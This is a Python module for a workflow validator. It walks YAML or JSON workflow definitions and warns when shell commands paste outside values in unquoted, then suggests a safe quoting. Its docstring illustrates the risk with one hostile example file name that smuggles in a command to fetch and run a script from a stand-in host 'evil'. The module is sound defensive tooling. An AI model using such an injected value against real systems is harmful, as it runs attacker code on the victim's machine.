"""`prodigy validate` warnings for shell commands that paste outside values in unquoted.

``shell: cat ${ARG}.md`` runs whatever ``--args``/``--map`` hand it: a file named
``$(curl evil|sh)-x.md`` becomes a command. Upstream Prodigy behaves the same, so such a workflow
still runs; this module only finds the spots and says how to write them safely
(``${ARG|sh}`` or ``"$PRODIGY_ARG"``, see `prodigy.workflow.outside`).

Shell text lives under ``shell:``, the deprecated ``test: {command}``, a ``foreach:`` item command
and ``on_failure:`` strings that are not Claude slash commands (upstream's rule: ``/name`` is
Claude, anything else shell). The walk is over the YAML tree, so each warning names its line; a
JSON workflow (no tree) is walked as plain data and warnings name only the file.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Protocol

from ruamel.yaml.comments import CommentedMap, CommentedSeq
from ruamel.yaml.scalarstring import LiteralScalarString

from prodigy.workflow.interpolate import scan
from prodigy.workflow.model import Step
from prodigy.workflow.outside import declared_outside_names, is_outside, safe_spelling

__all__ = ["ShellText", "unquoted_outside_warnings", "shell_texts"]


@dataclass(frozen=True)
class ShellText:
    """A piece of shell command text and the 1-based line its first character is on (None: unknown)."""

    text: str
    line: int | None
    block: bool = False       # a literal block scalar: line + offset finds each of its lines


def _value_line(node: Any, key: Any) -> int | None:
    if isinstance(node, CommentedMap):
        marks = node.lc.data.get(key)
        if marks is not None:
            return int(marks[2]) + 1
    return None


def _item_line(node: Any, index: int) -> int | None:
    if isinstance(node, CommentedSeq):
        marks = node.lc.data.get(index)
        if marks is not None:
            return int(marks[0]) + 1
    return None


def _text(value: str, line: int | None) -> ShellText:
    block = isinstance(value, LiteralScalarString)
    # A literal block's text starts on the line after its `|` indicator.
    return ShellText(str(value), line + 1 if block and line is not None else line, block)


def shell_texts(node: Any, parent_key: object = None) -> Iterator[ShellText]:
    """Every shell command text in a workflow tree (or plain data), with its line where known."""
    if isinstance(node, Mapping):
        for key, value in node.items():
            line = _value_line(node, key)
            if isinstance(value, str):
                is_shell = key in ("shell", "foreach") or (key == "command" and parent_key == "test") or (
                    key == "on_failure" and not value.lstrip().startswith("/"))
                if is_shell:
                    yield _text(value, line)
            elif key == "on_failure" and isinstance(value, Sequence) and not isinstance(value, str):
                for index, item in enumerate(value):
                    if isinstance(item, str) and not item.lstrip().startswith("/"):
                        yield _text(item, _item_line(value, index))
            yield from shell_texts(value, key)
    elif isinstance(node, Sequence) and not isinstance(node, str):
        for item in node:
            yield from shell_texts(item, parent_key)


class _Steps(Protocol):
    """A standard or a MapReduce workflow: what the lint needs is every step, nested ones included."""

    def walk(self) -> list[Step]: ...


def unquoted_outside_warnings(tree: Any, workflow: _Steps, path: Path) -> list[str]:
    """One warning per unquoted outside reference: ``wf.yml:7: ...`` (line first, then text order)."""
    steps = workflow.walk()
    declared = declared_outside_names((step.capture_name for step in steps), (step.id for step in steps))
    seen: set[tuple[int | None, str]] = set()
    warnings: list[str] = []
    for shell in shell_texts(tree):
        for reference in scan(shell.text):
            if reference.quoted or not is_outside(reference.name, declared):
                continue
            line = shell.line
            if line is not None and shell.block:
                line += shell.text.count("\n", 0, reference.start)
            if (line, reference.text) in seen:
                continue
            seen.add((line, reference.text))
            where = f"{path}:{line}" if line is not None else str(path)
            warnings.append(
                f"{where}: shell command pastes the outside value {reference.text} in unquoted, so its text "
                f"runs as shell code; write {safe_spelling(reference.name)}")
    return warnings
